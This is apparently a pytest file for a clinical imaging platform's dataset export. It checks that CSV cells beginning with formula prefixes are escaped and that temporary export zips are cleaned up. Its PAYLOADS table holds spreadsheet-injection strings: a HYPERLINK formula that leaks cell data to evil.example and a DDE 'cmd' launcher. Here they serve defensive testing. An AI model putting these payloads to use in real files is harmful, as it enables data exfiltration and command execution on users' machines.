"""Dataset exports (issue 12): every CSV cell a spreadsheet could run as a formula is written as
text, and no export zip is left in the temp folder, after a download or after a failure."""

from __future__ import annotations

import csv
import io
import tempfile
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from backend.cases.models import Case
from backend.platform.csv_cells import FORMULA_START, csv_safe
from backend.platform.db import transaction, utcnow
from inference.sides import PATIENT_ZONES
from tests.backend.backend_testkit import Stack, png_bytes
from tests.backend.db_refusal import refused_inserts
from tests.backend.model_kit import review, upload

# what reviewers typed as their edited findings, one case each: every formula prefix
PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+": "+SUM(1,2)",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1,2)",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
EXPORT = "/api/admin/datasets/export"


async def _reviewed_case(
    stack: Stack, clinician: dict[str, str], reviewer: dict[str, str], findings_text: str
) -> str:
    """A done case with a real mask, then a reviewer's edit with the given text."""
    case_id = await upload(stack, clinician, png_bytes(64, 64))
    mask_key = stack.services.store.key(case_id, "mask.png")
    await stack.services.store.put(mask_key, png_bytes(64, 64, 255), "image/png")
    async with transaction(stack.services.sessions) as db:
        case = await db.get(Case, case_id)
        assert case is not None
        case.status, case.mask_key, case.finished_at = "done", mask_key, utcnow()
        case.zone_flags = {z: z == "patient_left_lower" for z in PATIENT_ZONES}
        case.findings_text = "Unilateral pulmonary infection, one infected area."
        db.add(case)
    await review(
        stack,
        reviewer,
        case_id,
        decision="edit",
        findings_text=findings_text,
        zone_flags={z: z == "patient_left_lower" for z in PATIENT_ZONES},
    )
    return case_id


@pytest.fixture
def temp_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """The process's temp folder (where exports are built), empty at the start."""
    folder = tmp_path / "tmp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    yield folder


def test_csv_safe_quotes_every_formula_prefix() -> None:
    for prefix in FORMULA_START:
        assert csv_safe(prefix + "1") == "'" + prefix + "1"
    assert csv_safe("case.view") == "case.view" and csv_safe(None) == ""
    assert csv_safe(3) == "3" and csv_safe(datetime(2024, 1, 2, tzinfo=UTC)).startswith("2024")


async def test_annotations_csv_neutralises_formulas(
    stack: Stack, clinician, reviewer, admin, temp_dir: Path
) -> None:
    start = datetime.now(UTC).isoformat()
    ids = {
        prefix: await _reviewed_case(stack, clinician[1], reviewer[1], text)
        for prefix, text in PAYLOADS.items()
    }
    r = await stack.client.post(EXPORT, headers=admin[1], json={"created_from": start})
    assert r.status_code == 200, r.text
    assert r.headers["x-export-cases"] == str(len(PAYLOADS))
    raw = zipfile.ZipFile(io.BytesIO(r.content)).read("annotations.csv").decode("utf-8")
    rows = {row["case_id"]: row for row in csv.DictReader(io.StringIO(raw))}
    assert set(rows) == set(ids.values())
    for prefix, case_id in ids.items():
        row = rows[case_id]
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_START), (prefix, column, cell)
        # the reviewer's words are kept, shown as text (the layout trims surrounding space)
        assert row["description"] == "'" + PAYLOADS[prefix].strip(), prefix
    assert list(temp_dir.iterdir()) == []


async def test_export_leaves_no_temp_file_when_it_fails(
    stack: Stack, clinician, reviewer, admin, temp_dir: Path
) -> None:
    start = datetime.now(UTC).isoformat()
    await _reviewed_case(stack, clinician[1], reviewer[1], "Lower left lung infection.")
    # the zip is written, then the audit row cannot be saved: the request fails at commit
    async with refused_inserts(stack, "audit_events", "NEW.action = 'dataset.export'"):
        r = await stack.client.post(EXPORT, headers=admin[1], json={"created_from": start})
    assert r.status_code >= 500, r.text
    assert list(temp_dir.iterdir()) == []
    ok = await stack.client.post(EXPORT, headers=admin[1], json={"created_from": start})
    assert ok.status_code == 200, ok.text
    assert list(temp_dir.iterdir()) == []
